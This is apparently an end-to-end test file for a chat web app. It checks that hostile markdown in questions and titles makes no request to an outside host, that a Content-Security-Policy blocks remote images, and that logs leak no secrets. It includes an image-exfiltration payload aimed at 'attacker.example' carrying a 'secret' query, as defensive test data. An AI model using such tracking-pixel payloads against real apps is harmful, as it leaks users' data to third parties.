"""Issue #18 in Chromium: hostile text as a question, a title and a note reaches no other host.

Every request the browser makes is recorded; the test fails on any that does not go to the
app itself. The payloads are tests/payloads/*.txt, with their images aimed at a listener of
ours on another port (another origin), which counts what reaches it.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
import requests
from playwright.sync_api import Browser, expect

from tests.e2e.conftest import (
    COOKIE_KEY,
    AppServer,
    Listener,
    aimed,
    ask,
    assert_inert,
    foreign,
    login,
    messages,
    new_chat,
    new_context,
    open_history,
    search_history,
    select_row,
    sidebar,
)
from tests.test_render import payloads

pytestmark = pytest.mark.e2e

MARKER = "wombat7431"  # finds the conversation on /history


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def recorded(browser: Browser, app_server: AppServer):
    """A fresh browser profile, and every URL it requested."""
    context = new_context(browser)
    seen: list[str] = []
    context.on("request", lambda request: seen.append(request.url))
    yield context.new_page(), seen
    context.close()


def test_the_page_carries_a_content_security_policy(app_server: AppServer):
    policy = requests.get(app_server.url("/"), timeout=10).headers["Content-Security-Policy"]
    assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
    assert "frame-ancestors 'self'" in policy


def test_hostile_markdown_in_a_question_and_its_title_loads_nothing_from_another_host(
    recorded, app_server: AppServer, listener: Listener
):
    page, seen = recorded
    login(page, "bob", base_url=app_server.base_url)
    new_chat(page)
    question = aimed(f"{MARKER} ![pixel](http://attacker.example/title.png?q=secret) " + "\n\n".join(
        payloads("markdown.txt")), listener)
    ask(page, question)
    expect(messages(page).first).to_contain_text("[image: pixel]")
    expect(sidebar(page)).to_contain_text(MARKER)
    page.reload()  # the saved question, as the transcript shows it
    expect(messages(page)).to_have_count(2)
    assert_inert(page)
    assert listener.hits == [], "an image in the question was fetched"
    assert foreign(seen, app_server) == []


def test_an_admin_reading_the_question_on_history_loads_nothing_either(
    recorded, app_server: AppServer, listener: Listener
):
    """The question of the test above is a tracking pixel only if the admin's browser fetches it."""
    page, seen = recorded
    login(page, "root", base_url=app_server.base_url)
    open_history(page)
    search_history(page, MARKER)
    select_row(page, 0)
    expect(messages(page).first).to_contain_text("[image: pixel]")
    assert_inert(page)
    assert listener.hits == []
    assert foreign(seen, app_server) == []


def test_a_remote_image_that_slipped_past_the_sanitizer_is_blocked_by_the_policy(
    recorded, app_server: AppServer, listener: Listener
):
    page, seen = recorded
    page.goto(app_server.base_url)
    expect(page.get_by_role("button", name="Login")).to_be_visible()
    page.evaluate("(src) => { const img = new Image(); img.src = src; document.body.appendChild(img); }",
                  f"{listener.origin}/slipped.png")
    page.wait_for_timeout(1000)
    assert listener.hits == []


def test_no_request_leaves_the_app_while_the_chat_page_loads(recorded, app_server: AppServer):
    page, seen = recorded
    login(page, "alice", base_url=app_server.base_url)
    page.reload()
    expect(page.get_by_test_id("stChatInput")).to_be_visible()
    page.wait_for_timeout(1000)
    assert foreign(seen, app_server) == []


def test_the_app_log_holds_no_password_hash_cookie_or_key(app_server: AppServer):
    """Run last in the suite's shared app: after logins, failed logins, questions and exports,
    no line of its log carries a bcrypt hash, the cookie key or a login cookie (a JWT)."""
    log = app_server.log_path.read_text(errors="replace")
    assert "logged in" in log  # the log is the one the suite wrote
    for secret in ("$2b$", "$2a$", "$2y$", COOKIE_KEY, "eyJ"):
        assert secret not in log, f"{secret[:8]}… in the app's log"
